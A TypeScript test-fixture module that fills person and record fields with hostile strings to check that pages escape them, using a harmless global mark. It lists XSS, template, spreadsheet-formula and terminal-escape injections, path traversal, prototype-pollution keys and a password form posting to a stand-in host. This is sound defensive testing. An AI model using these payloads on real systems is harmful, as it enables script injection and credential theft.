import type { Person } from './people/person.ts'
import type { Random } from './random.ts'

/** Sets a mark a test can look for: `globalThis.sandboxHostile` is true once a page has executed any of it. */
const MARK = 'globalThis.sandboxHostile=true'

/** Text that does something where it is not treated as text: pages, templates, terminals, spreadsheets, objects. */
const TEXTS = [
  `<script>${MARK}</script>`,
  `"><img src=x onerror="${MARK}">`,
  `'><svg/onload=${MARK}>`,
  `</title></textarea></script><script>${MARK}</script>`,
  `<a href="javascript:${MARK}">click</a>`,
  `';${MARK};//`,
  `\${${MARK}}{{constructor.constructor('${MARK}')()}}`,
  `=HYPERLINK("https://elsewhere.example/?"&A1,"open")`,
  `+cmd|' /C calc'!A0`,
  '\u001B[31mred\u001B[0m\u001B]0;another title\u0007',
  '\u202Egnp.tiartrop\u202C',
  'two\r\nlines:\tand a tab',
  '&lt;b&gt;escaped once&lt;/b&gt; &amp;amp; twice',
  '../../../../etc/passwd\u0000.png',
  '__proto__',
  'x'.repeat(2000),
]

const HTML = [
  `<p onclick="${MARK}">one</p><script>${MARK}</script>`,
  `<img src="x" onerror="${MARK}"><iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
  `<style>body { display: none }</style><form action="https://elsewhere.example"><input name="password"></form>`,
]

const URLS = [
  `javascript:${MARK}`,
  `data:text/html,<script>${MARK}</script>`,
  '//elsewhere.example/without-scheme',
  'https://www.filmmakers.example@elsewhere.example/',
  'file:///etc/passwd',
]

/** Names every object has. */
const POLLUTING: Person['languages'] = [
  ['__proto__', 'gut'],
  ['constructor', 'gut'],
]

const TEXT_FIELDS = new Set([
  ...['about_me', 'name', 'short_name', 'title', 'note', 'subject', 'description', 'body', 'function'],
  ...['info', 'role', 'director', 'producer', 'caster', 'station', 'episode_name', 'theater_name'],
  ...['copyright', 'poster_copyright', 'city', 'place_of_birth', 'gender_description', 'facebook_page'],
  ...['instagram_username', 'line1', 'talent_agency_name', 'ethnic_background_description'],
])
const HTML_FIELDS = new Set(['about_me_html', 'body_html'])
const URL_FIELDS = new Set([
  ...['homepage_url', 'imdb_link', 'agency_profile_url', 'wikipedia_url', 'showreel_url', 'sv_url'],
  ...['external_showreels', 'filmmakers_url'],
])

/** Half of the people have such a name; a few an attribute that is part of every object. */
export function hostilePerson<P extends Person>(person: P, random: Random): P {
  const text = random.pick(TEXTS)
  const [named, first, polluting] = [random.chance(0.5), random.chance(0.5), random.chance(0.1)]
  const name = first ? { firstName: text } : { lastName: text }
  return {
    ...person,
    ...(named && name),
    photographer: random.pick(TEXTS),
    ...(polluting && { languages: POLLUTING }),
  }
}

/** Every other free text and address of a record becomes a hostile one. Its shape stays as documented. */
export function hostileRecord<T>(record: T, random: Random): T {
  return visit('', record) as T

  function visit(field: string, value: unknown): unknown {
    if (Array.isArray(value)) return value.map((one) => visit(field, one))
    if (typeof value === 'object' && value !== null) {
      return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, visit(name, one)]))
    }
    return typeof value === 'string' ? text(field, value) : value
  }

  function text(field: string, value: string): string {
    const list = TEXT_FIELDS.has(field)
      ? TEXTS
      : HTML_FIELDS.has(field)
        ? HTML
        : URL_FIELDS.has(field)
          ? URLS
          : []
    return list.length > 0 && random.chance(0.5) ? random.pick(list) : value
  }
}
